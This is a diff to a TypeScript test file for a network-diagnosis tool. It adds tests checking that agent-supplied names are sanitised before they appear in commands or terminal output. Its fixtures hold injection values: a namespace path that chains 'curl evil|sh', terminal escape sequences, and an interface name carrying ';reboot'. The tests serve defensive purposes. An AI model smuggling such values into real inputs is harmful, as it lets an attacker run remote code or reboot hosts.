@@ -2,6 +2,7 @@ import { describe, expect, test } from "bun:test";
 import { explainAddress, parseExplainQuery } from "./explain.ts";
 import { LAB_FACTS } from "./fixtures/lab-facts.ts";
 import { LAB_NOW, LAB_SNAPSHOT } from "./fixtures/lab-snapshot.ts";
+import { hasUnprintable } from "./printable.ts";
 import { renderExplanation } from "./render-explain.ts";
 
 function render(text: string, facts = LAB_FACTS, missing: { node: string; reason: string }[] = []): string {
@@ -60,5 +61,35 @@ describe("renderExplanation", () => {
       "missing   node3 did not answer (no answer within 2000 ms): its kernel is not checked",
     );
     expect(text).toContain("✗ node3 agent-not-answering");
+  });
+});
+
+describe("agent-supplied strings", () => {
+  const evilNetns = "/run/netns/x; curl evil|sh \u001b]0;pwned\u0007\u001b[2J";
+  const facts = LAB_FACTS.map((f) =>
+    f.node === "node2"
+      ? {
+          ...f,
+          agent: { ...f.agent, uplink: "eth0;reboot" },
+          pods: f.pods.map((p) => ({ ...p, netns: evilNetns })),
+        }
+      : f,
+  );
+
+  test("no control character reaches the terminal; crafted names never reach a command", () => {
+    const e = explainAddress(LAB_SNAPSHOT, facts, parseExplainQuery("10.244.3.2"), LAB_NOW);
+    const commands = e.checks.map((c) => c.command);
+    expect(commands.some((c) => c.includes("curl"))).toBe(false);
+    expect(commands).toContain("nsenter --net=<invalid> ip addr show eth0");
+    const text = renderExplanation(e);
+    expect(hasUnprintable(text)).toBe(false);
+    expect(text).toContain("\\x1b]0;pwned\\x07");
+  });
+
+  test("an uplink that is not an interface name is shown as <invalid> in the command", () => {
+    const e = explainAddress(LAB_SNAPSHOT, facts, parseExplainQuery("192.0.2.12"), LAB_NOW);
+    const commands = e.checks.map((c) => c.command);
+    expect(commands).toContain("ip addr show <invalid>");
+    expect(commands.some((c) => c.includes("reboot"))).toBe(false);
   });
 });
